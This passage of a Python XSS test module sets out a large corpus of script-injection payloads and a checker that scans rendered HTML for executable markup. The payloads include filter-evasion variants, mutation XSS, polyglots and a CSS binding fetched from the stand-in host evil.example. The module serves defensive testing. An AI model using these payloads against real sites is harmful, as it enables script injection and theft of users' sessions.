"""A reusable XSS test kit: a corpus of hostile strings and a checker for rendered HTML.

Tests store every string of `PAYLOADS` wherever users can type text (reviews, pseudonyms, place names and
descriptions, report reasons, map popups ...), render every page that shows it, and call `assert_safe()` on
the HTML. The checker parses the page with `html.parser.HTMLParser` and also scans the raw text of the
regions that parser saw as text, comments, attribute values and style sheets, so markup that a lenient
browser would still execute (parser differentials, mutation XSS) is reported too.

Which payloads bite where:

* most payloads are dangerous as plain HTML text: inserted raw into `<p>…</p>` the checker flags them;
* `ATTRIBUTE_CONTEXT_PAYLOADS` only bite inside an attribute value (`title="…"`, `title='…'`, `title=…`);
* `URL_CONTEXT_PAYLOADS` only bite as a URL (`href`, `src`, a place's website); escaping does NOT help there;
* `JS_CONTEXT_PAYLOADS` only bite inside JavaScript strings, template literals or JSON in a `<script>`;
* `TRANSFORM_PAYLOADS` only bite after the app transforms the text (URL- or entity-decoding twice, NFKC
  normalisation, UTF-7, JS unescaping, Markdown rendering, evaluating it as a Jinja template).

Every payload calls `alert`, `confirm`, `prompt` or `print` (sometimes encoded), so a browser test can
detect execution by listening for dialogs.
"""
from __future__ import annotations

import html as _html
import json
import re
from collections import Counter
from dataclasses import dataclass
from html.parser import HTMLParser

# ---------------------------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------------------------

_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # base64 of <script>alert(1)</script>

# HTML body: elements and event handlers that run as soon as they are parsed or touched.
HTML_BODY: list[str] = [
    "<script>alert(1)</script>",
    "<script>alert(document.domain)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script>confirm(1)</script>",
    "<script>prompt(1)</script>",
    "<script>print()</script>",
    "<script type=module>alert(1)</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script src=data:,alert(1)></script>",
    '<script src="/static/../api/places?callback=alert(1)"></script>',
    "<script nonce=abc>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror=print()>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<image src=x onerror=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    '<div tabindex=0 autofocus onfocusin=alert(1)>x</div>',
    "<div onmouseover=alert(1)>hover me</div>",
    "<p onpointerenter=alert(1)>x</p>",
    "<button onclick=alert(1)>x</button>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<style onload=alert(1)></style>",
    "<keygen autofocus onfocus=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<a href=javascript:confirm(1)>click</a>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<object data=javascript:alert(1)></object>",
    '<object data="data:text/html;base64,' + _B64_SCRIPT + '"></object>',
    "<embed src=javascript:alert(1)>",
    '<embed src="data:text/html;base64,' + _B64_SCRIPT + '">',
    "<base href=javascript:alert(1)//>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=import href="data:text/html;base64,' + _B64_SCRIPT + '">',
    "<frameset onload=alert(1)>",
    "<frame src=javascript:alert(1)>",
    '<applet code="javascript:alert(1)"></applet>',
    "<portal src=javascript:alert(1)></portal>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
]

# Attribute breaking. The first ones close the attribute AND the tag, so they are dangerous anywhere;
# the `_attribute_only` ones stay inside the tag and only bite inside an attribute value.
_attribute_only: list[str] = [
    '" onmouseover="alert(1)',
    '"onmouseover="alert(1)',
    '" autofocus onfocus="alert(1)',
    '" onfocus=alert(1) autofocus x="',
    '" onpointerover=alert(1) "',
    '" style="x:expression(alert(1))',
    '" href="javascript:alert(1)',
    "' autofocus onfocus='alert(1)",
    "' onmouseover='alert(1)",
    "'onclick='alert(1)",
    "` onfocus=alert(1) autofocus `",
    "x autofocus tabindex=1 onfocus=alert(1)",
    "x onerror=alert(1)",
]
ATTRIBUTE_BREAKING: list[str] = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '"/><svg/onload=alert(1)>',
    '"><iframe src=javascript:alert(1)>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    *_attribute_only,
]

# URL schemes. Wrapped in a tag they are dangerous anywhere; the bare `_url_only` ones bite in
# href/src/action (a place's website, a "more info" link) and plain escaping does not stop them.
_url_only: list[str] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript:alert(document.cookie)",
    "java&#x09;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "javascript:%61lert(1)",
    "vbscript:alert(1)",
    "data:text/html;base64," + _B64_SCRIPT,
    "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",  # <svg onload=alert(1)>
]
URL_SCHEMES: list[str] = [
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="java&#13;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    '&#0000058alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="data:text/html;base64,' + _B64_SCRIPT + '">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    '<iframe src="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E"></iframe>',
    '<img src="javascript:alert(1)">',
    "<video poster=javascript:alert(1)></video>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    *_url_only,
]

# SVG and MathML: foreign content, animations that rewrite href, namespace confusion.
SVG_MATHML: list[str] = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg><script>&#97;lert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    '<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)" />'
    "<a id=x><text y=20>x</text></a></svg>",
    '<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg&gt;'
    '&lt;image href=1 onerror=alert(1) /&gt;&lt;/svg&gt;#x" /></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><image href=x onerror=alert(1) /></svg>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><animateTransform onbegin=alert(1) attributeName=transform>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>',
    '<math><mi xlink:href="data:x,alert(1)">x</mi></math>',
    '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">'
    "</path></textarea></mtext></svg></mglyph></table></mtext></math>",
]

# Polyglots: one string that escapes many contexts at once.
POLYGLOTS: list[str] = [
    r"jaVasCript:/*-/*`/*\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    r"</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//>\x3e",
    'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script>'
    '<html " onmouseover=/*&lt;svg/*/onload=alert()//>',
    "-->'\"/></sCript><deTailS open x=\">\" ontoggle=(co\\u006efirm)``>",
    'javascript://\'/</title></style></textarea></script>--><p" onclick=alert()//>*/alert()/*',
    "'\"--></style></script><script>alert(1)</script>",
    "\"/*\\\"/*'/*\\'/**/</script><script>alert(1)</script>",
    "';alert(1);//\\';alert(1);//\";alert(1);//\\\";alert(1);//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
    '" onclick=alert(1)//<button \' onclick=alert(1)//> */ alert(1)//',
    '">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>'
    "<script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>'-->\">"
    '</script><script>alert(1)</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id&%23x29;>',
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "%0a\"/></script><svg/onload=alert(1)>",
]

# Mutation XSS: markup that parses harmlessly once but turns hostile when re-serialised or when a
# browser and a sanitizer disagree about raw-text elements and foreign content.
MUTATION: list[str] = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><style><img src onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><img src=x onerror=alert(1)></template>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    '<style><p title="</style><img src=x onerror=alert(1)>"></style>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>-->",
    '<? foo="><script>alert(1)</script>">',
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><image href=x onerror=alert(1)>]]></svg>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<div><form id="f"></form><button form="f" formaction="javascript:alert(1)">x</button></div>',
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
]

# Breaking out of JavaScript (map popups built in a <script>, template literals, JSON in a page).
# The markup ones are dangerous anywhere; the `_js_only` ones only bite inside a JS string or literal.
_js_only: list[str] = [
    "${alert(1)}",
    "${confirm(1)}",
    "${prompt`1`}",
    "`;alert(1);`",
    "`+alert(1)+`",
    "'-alert(1)-'",
    '"-alert(1)-"',
    "'+alert(1)+'",
    '"+alert(1)+"',
    '";alert(1);//',
    "';alert(1);//",
    "');alert(1);//",
    "\\';alert(1);//",
    '\\";alert(1);//',
    "\\\\';alert(1);//",
    "*/alert(1)/*",
    "\u2028alert(1)//",
    "\u2029alert(1)//",
    "-alert(1)-",
    "{{constructor.constructor('alert(1)')()}}",
]
JS_BREAKING: list[str] = [
    "</script><script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "</ScRiPt ><svg onload=alert(1)>",
    "</script/x><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "']</script><svg onload=alert(1)>",
    *_js_only,
]

# CSS: script through style sheets and style attributes (old IE, old Firefox, url() to other sites).
CSS: list[str] = [
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>@import url("javascript:alert(1)");</style>',
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>*{x:expression(alert(1))}</style>",
    '<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x</li></ul>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<div style=\"background-image:url('javascript:alert(1)')\">x</div>",
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="xss:expr/**/ession(alert(1))">x</div>',
    '<div style="x:\\65xpression(alert(1))">x</div>',
    '<div style="background:url(&#1;javascript:alert(1))">x</div>',
    '<div style="behavior:url(#default#time2)" onbegin="alert(1)">x</div>',
    "<div style=\"-moz-binding:url('http://evil.example/xss.xml#alert(1)')\">x</div>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<link rel=stylesheet href="data:text/css,*{x:expression(alert(1))}">',
]

# Encoded and obfuscated variants. The `_encoded_only` ones are inert as stored and bite only if the app
# decodes them once more (URL, entities, NFKC, UTF-7, JS escapes).
_encoded_only: list[str] = [
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
]
OBFUSCATED: list[str] = [
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<img src=x\x00 onerror=alert(1)>",
    "<svg\x00 onload=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<img src=x onerror="&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;">',
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x onerror=al\\u0065rt(1)>",
    "<img src=x onerror=eval('\\x61lert(1)')>",
    "<img src=x onerror=top['al\\x65rt'](1)>",
    "<img src=x onerror=alert&lpar;1&rpar;>",
    "<img src=x onerror=alert`1`>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<sCrIpT>alert(1)</ScRiPt>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>/* */alert(1)/* */</script>",
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=\nalert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<svg\x0conload=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src=x onerror  =  alert(1)>",
    "A" * 560 + "<svg onload=alert(1)>",
    "<img src=x " + "a " * 280 + "onerror=alert(1)>",
    "<a href=\"" + "/" * 520 + "\" onclick=alert(1)>x</a>",
    *_encoded_only,
]

# Markdown-ish: only dangerous if the app ever renders Markdown; the raw-HTML one is dangerous anyway.
_markdown_only: list[str] = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:prompt(1) )",
    "![x](javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html;base64," + _B64_SCRIPT + ")",
    "[![x](x.png)](javascript:alert(1))",
    "[x](javascript:window.onerror=alert;throw%201)",
    "[x]: javascript:alert(1)",
]
MARKDOWN: list[str] = [
    '<a href="javascript:alert(1)">raw html in markdown</a>',
    "<javascript:alert(1)>",
    *_markdown_only,
]

# Jinja/template injection: if the app ever renders user text as a template these emit live markup.
_template_only: list[str] = [
    '{{ "\\x3cscript\\x3ealert(7*7)\\x3c/script\\x3e"|safe }}',
    "{{ ('%c'|format(60) ~ 'img src=x onerror=alert(' ~ 7*7 ~ ')' ~ '%c'|format(62))|safe }}",
]
TEMPLATE_INJECTION: list[str] = [
    "{{ '<img src=x onerror=alert(1)>'|safe }}",
    '{{ "<svg onload=alert(" ~ 7*7 ~ ")>"|safe }}',
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "{% autoescape false %}<img src=x onerror=alert(1)>{% endautoescape %}",
    "{{7*7}}<script>alert(7*7)</script>",
    "{# #}<svg onload=alert(1)>",
    *_template_only,
]

# JSON breaking: strings that end a JSON value or the <script> block that holds it.
_json_only: list[str] = [
    '"};alert(1);//',
    '"}]);alert(1);//',
    '","x":alert(1),"y":"',
    '\\"};alert(1);//',
]
JSON_BREAKING: list[str] = [
    '"}</script><script>alert(1)</script>',
    '{"x":"</script><script>alert(1)</script>"}',
    '"}</script><!--<script>alert(1)</script>',
    *_json_only,
]

PAYLOADS_BY_KIND: dict[str, list[str]] = {
    "html body": HTML_BODY,
    "attribute breaking": ATTRIBUTE_BREAKING,
    "url schemes": URL_SCHEMES,
    "svg/mathml": SVG_MATHML,
    "polyglots": POLYGLOTS,
    "mutation xss": MUTATION,
    "js breaking": JS_BREAKING,
    "css": CSS,
    "encoded/obfuscated": OBFUSCATED,
    "markdown": MARKDOWN,
    "template injection": TEMPLATE_INJECTION,
    "json breaking": JSON_BREAKING,
}

PAYLOADS: list[str] = [p for kind in PAYLOADS_BY_KIND.values() for p in kind]

# Payloads that are inert as plain HTML text and only bite in one context (see the module docstring).
ATTRIBUTE_CONTEXT_PAYLOADS: list[str] = list(_attribute_only)
URL_CONTEXT_PAYLOADS: list[str] = list(_url_only)
JS_CONTEXT_PAYLOADS: list[str] = _js_only + _json_only
TRANSFORM_PAYLOADS: list[str] = _encoded_only + _markdown_only + _template_only
CONTEXT_ONLY_PAYLOADS: frozenset[str] = frozenset(
    ATTRIBUTE_CONTEXT_PAYLOADS + URL_CONTEXT_PAYLOADS + JS_CONTEXT_PAYLOADS + TRANSFORM_PAYLOADS)
# Payloads that are dangerous as plain text in an HTML page.
HTML_CONTEXT_PAYLOADS: list[str] = [p for p in PAYLOADS if p not in CONTEXT_ONLY_PAYLOADS]

# ---------------------------------------------------------------------------------------------------------
# The checker
# ---------------------------------------------------------------------------------------------------------

URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc",
                            "background", "lowsrc", "dynsrc", "codebase"})
FORBIDDEN_ELEMENTS = frozenset({"iframe", "object", "embed", "base", "frame", "frameset", "applet", "portal"})
# Obsolete raw-text elements: the app never emits them and they are classic mutation-XSS vehicles.
OBSOLETE_RAWTEXT_ELEMENTS = frozenset({"xmp", "listing", "plaintext", "noembed", "noframes"})
SVG_ANIMATION_ELEMENTS = frozenset({"animate", "set", "animatemotion", "animatetransform", "animatecolor",
                                    "discard"})
JSON_SCRIPT_TYPES = frozenset({"application/json", "application/ld+json"})
# Elements whose end tag, hidden inside an attribute value or style sheet, breaks out of a raw-text state.
RAWTEXT_END_TAGS = frozenset({"script", "style", "noscript", "textarea", "title", "xmp", "iframe", "noembed",
                              "noframes", "plaintext", "template"})
HIDDEN_DANGEROUS_ELEMENTS = FORBIDDEN_ELEMENTS | {"script", "meta", "link", "style"}
LINK_RELS_ALLOWED_OFF_SITE = frozenset({"canonical", "alternate"})
MIN_INFERRED_NONCE_LENGTH = 16

_BAD_SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:")
_SAFE_IMG_DATA = re.compile(r"data:image/(?:png|jpeg|gif)[;,]")
_SCHEME = re.compile(r"[a-z][a-z0-9+.\-]*:")
_STRIP_URL = re.compile(r"[\x00-\x20\x7f-\x9f\s]+")
_VALID_TAG_NAME = re.compile(r"[a-z][a-z0-9._:\-]*")
_HIDDEN_TAG = re.compile(r"<\s*(/?)\s*([a-zA-Z][^\s/>\x00]*)([^>]*)", re.S)
_HIDDEN_HANDLER = re.compile(r"(?:^|[\s/\"'`\x00])on[a-z]+\s*=", re.I)
_HIDDEN_URL_ATTR = re.compile(
    r"(?:^|[\s/\"'`\x00])(href|src|action|formaction|xlink:href|data|poster|background|lowsrc|dynsrc)"
    r"\s*=\s*(\"[^\"]*\"|'[^']*'|[^\s>]*)", re.I)
_HIDDEN_STYLE_ATTR = re.compile(r"(?:^|[\s/\"'`\x00])style\s*=\s*(\"[^\"]*\"|'[^']*'|[^\s>]*)", re.I)
_CSS_COMMENT = re.compile(r"/\*.*?\*/", re.S)
_CSS_HEX_ESCAPE = re.compile(r"\\([0-9a-fA-F]{1,6})[ \t\r\n\f]?")
_CSS_CHAR_ESCAPE = re.compile(r"\\(.)", re.S)
_CSS_URL = re.compile(r"url\(\s*(['\"]?)(.*?)\1\s*\)", re.S)
_CSS_IMPORT = re.compile(r"@import\s*(['\"])(.*?)\1", re.S)
_CSP_NONCE = re.compile(r"'nonce-([^']+)'")


@dataclass(frozen=True)
class Problem:
    """One executable construct found in a page, with its character offset in the HTML."""

    message: str
    offset: int

    def __str__(self) -> str:
        return f"{self.message} [offset {self.offset}]"


def _clean_url(value: str) -> str:
    """Decode entities (once more: conservative), drop whitespace and control characters, lowercase."""
    return _STRIP_URL.sub("", _html.unescape(value or "")).lower()


def _bad_url(value: str, *, tag: str = "", attr: str = "") -> str | None:
    url = _clean_url(value)
    if tag == "img" and attr == "src" and _SAFE_IMG_DATA.match(url):
        return None
    for scheme in _BAD_SCHEMES:
        if url.startswith(scheme):
            return scheme
    return None


def _is_relative(url: str) -> bool:
    url = _clean_url(url)
    return not _SCHEME.match(url) and not url.startswith(("//", "/\\", "\\"))


def _css_hex(match: re.Match) -> str:
    code = int(match.group(1), 16)
    return chr(code) if 0 < code <= 0x10FFFF and not 0xD800 <= code <= 0xDFFF else "\ufffd"


def _normalise_css(css: str) -> str:
    css = _CSS_COMMENT.sub("", _html.unescape(css))
    css = _CSS_HEX_ESCAPE.sub(_css_hex, css)
    css = _CSS_CHAR_ESCAPE.sub(lambda m: "" if m.group(1) in "\r\n\f" else m.group(1), css)
    return css.lower()


def css_problems(css: str) -> list[str]:
    """What in a style sheet or style attribute could run script or load from another site."""
    css = _normalise_css(css)
    compact = _STRIP_URL.sub("", css)
    found = []
    for needle in ("expression(", "javascript:", "vbscript:", "behavior:", "behaviour:", "-moz-binding"):
        if needle in compact:
            found.append(f"CSS contains {needle!r}")
    for regex in (_CSS_URL, _CSS_IMPORT):
        for match in regex.finditer(css):
            if not _is_relative(match.group(2)):
                found.append(f"CSS loads a non-relative URL {match.group(2).strip()[:60]!r}")
    return found


def nonce_from_csp(header: str | None) -> str | None:
    """The script nonce in a Content-Security-Policy header value, if any."""
    match = _CSP_NONCE.search(header or "")
    return match.group(1) if match else None


@dataclass
class _Script:
    offset: int
    nonce: str | None
    kind: str  # "static", "json", "nonce" or "foreign"
    detail: str


class _Scanner(HTMLParser):
    def __init__(self, source: str, static_prefixes: tuple[str, ...]):
        super().__init__(convert_charrefs=True)
        self.source = source
        self.static_prefixes = static_prefixes
        self.problems: list[Problem] = []
        self.scripts: list[_Script] = []
        self._line_starts = [0] + [m.end() for m in re.finditer("\n", source)]
        self._text_start: int | None = None
        self._raw: tuple[str, int, _Script | None] | None = None  # (tag, body start, script) for script/style
        self._math_depth = 0

    # -- bookkeeping ------------------------------------------------------------------------------------
    def _pos(self) -> int:
        line, col = self.getpos()
        return self._line_starts[line - 1] + col

    def _add(self, message: str, offset: int) -> None:
        self.problems.append(Problem(message, offset))

    def _flush_text(self, end: int) -> None:
        if self._text_start is not None:
            self._scan_hidden(self.source[self._text_start:end], self._text_start, "text")
            self._text_start = None

    def _event(self) -> int:
        pos = self._pos()
        self._flush_text(pos)
        return pos

    # -- raw-text scan: markup a browser might see where HTMLParser saw none ----------------------------
    def _scan_hidden(self, text: str, offset: int, region: str) -> None:
        if "<" not in text:
            return
        for match in _HIDDEN_TAG.finditer(text):
            closing, name, rest = match.group(1), match.group(2).lower(), match.group(3)
            where = offset + match.start()
            if closing:
                if name in RAWTEXT_END_TAGS:
                    self._add(f"raw-text end tag </{name}> hidden in {region} (breaks out of a raw-text state)",
                              where)
                continue
            if name in HIDDEN_DANGEROUS_ELEMENTS:
                self._add(f"<{name}> hidden in {region}", where)
            if _HIDDEN_HANDLER.search(rest):
                self._add(f"<{name}> with an event handler hidden in {region}", where)
            for url in _HIDDEN_URL_ATTR.finditer(rest):
                value = url.group(2).strip("\"'")
                scheme = _bad_url(value, tag=name, attr=url.group(1).lower())
                if scheme:
                    self._add(f"<{name} {url.group(1).lower()}={scheme}...> hidden in {region}", where)
            for style in _HIDDEN_STYLE_ATTR.finditer(rest):
                for css in css_problems(style.group(1).strip("\"'")):
                    self._add(f"<{name} style> hidden in {region}: {css}", where)

    # -- HTMLParser callbacks ---------------------------------------------------------------------------
    def handle_starttag(self, tag, attrs):
        self._start(tag, attrs, self_closing=False)

    def handle_startendtag(self, tag, attrs):
        self._start(tag, attrs, self_closing=True)

    def handle_endtag(self, tag):
        pos = self._event()
        if self._raw is not None and tag == self._raw[0]:
            self._close_raw(pos)
        elif tag == "math" and self._math_depth:
            self._math_depth -= 1

    def handle_data(self, data):
        if self._raw is None and self._text_start is None:
            self._text_start = self._pos()

    def handle_comment(self, data):
        pos = self._event()
        self._scan_hidden(data, pos, "comment")

    def handle_decl(self, decl):
        pos = self._event()
        self._scan_hidden(decl, pos, "declaration")

    def unknown_decl(self, data):
        pos = self._event()
        self._scan_hidden(data, pos, "marked section")

    def handle_pi(self, data):
        pos = self._event()
        self._scan_hidden(data, pos, "processing instruction")

    def close(self):
        super().close()
        self._flush_text(len(self.source))
        if self._raw is not None:
            self._close_raw(len(self.source))

    # -- checks -----------------------------------------------------------------------------------------
    def _start(self, tag: str, attrs: list[tuple[str, str | None]], self_closing: bool) -> None:
        pos = self._event()
        raw = self.get_starttag_text() or ""
        values = {name: value or "" for name, value in attrs}

        if not _VALID_TAG_NAME.fullmatch(tag):
            self._add(f"malformed tag name <{tag[:40]}> (filter evasion)", pos)
        if tag in FORBIDDEN_ELEMENTS:
            self._add(f"<{tag}> element", pos)
        if tag in OBSOLETE_RAWTEXT_ELEMENTS:
            self._add(f"obsolete raw-text element <{tag}> (mutation-XSS vehicle)", pos)
        if tag in SVG_ANIMATION_ELEMENTS:
            self._add(f"SVG animation element <{tag}> (can rewrite href or run handlers)", pos)
        if tag == "use":
            for name in ("href", "xlink:href"):
                if name in values and not values[name].strip().startswith("#"):
                    self._add(f"<use {name}> points outside the document", pos)
        if tag == "meta" and values.get("http-equiv", "").strip().lower() in ("refresh", "set-cookie"):
            self._add(f"<meta http-equiv={values['http-equiv'].strip().lower()}>", pos)
        if tag == "link":
            self._check_link(values, pos)
        if tag == "math" and not self_closing:
            self._math_depth += 1
        in_math = self._math_depth > 0 or tag == "math"

        for name, value in values.items():
            if name.startswith("on"):
                self._add(f"event handler attribute {name}= on <{tag}>", pos)
            if name in URL_ATTRIBUTES:
                scheme = _bad_url(value, tag=tag, attr=name)
                if scheme:
                    self._add(f"<{tag} {name}> uses a {scheme} URL", pos)
            if name == "srcdoc":
                self._add(f"<{tag} srcdoc> holds an inline document", pos)
            if name == "style":
                for css in css_problems(value):
                    self._add(f"<{tag} style>: {css}", pos)
            if in_math and name in ("href", "xlink:href"):
                self._add(f"<{tag} {name}> inside <math>", pos)

        # Markup hidden in attribute values (mutation XSS, e.g. <p title="</noscript><img onerror=...>">).
        start = 1 + len(tag)
        self._scan_hidden(raw[start:], pos + start, f"attribute values of <{tag}>")

        script = self._script(tag, values, pos) if tag == "script" else None
        if tag in ("script", "style") and not self_closing:
            self._raw = (tag, pos + len(raw), script)

    def _check_link(self, values: dict[str, str], pos: int) -> None:
        href = values.get("href")
        if href is None:
            return
        if _is_relative(href):
            return
        rels = set(values.get("rel", "").lower().split())
        if rels and rels <= LINK_RELS_ALLOWED_OFF_SITE and _clean_url(href).startswith(("http:", "https:")):
            return
        self._add(f"<link rel={values.get('rel', '')!r}> loads {_clean_url(href)[:60]!r} from off site", pos)

    def _static_src(self, src: str) -> bool:
        url = _STRIP_URL.sub("", _html.unescape(src))
        lowered = url.lower()
        return (url.startswith(self.static_prefixes) and "\\" not in url
                and "/../" not in lowered.replace("%2e", ".") + "/" and not lowered.endswith("/.."))

    def _script(self, tag: str, values: dict[str, str], pos: int) -> _Script:
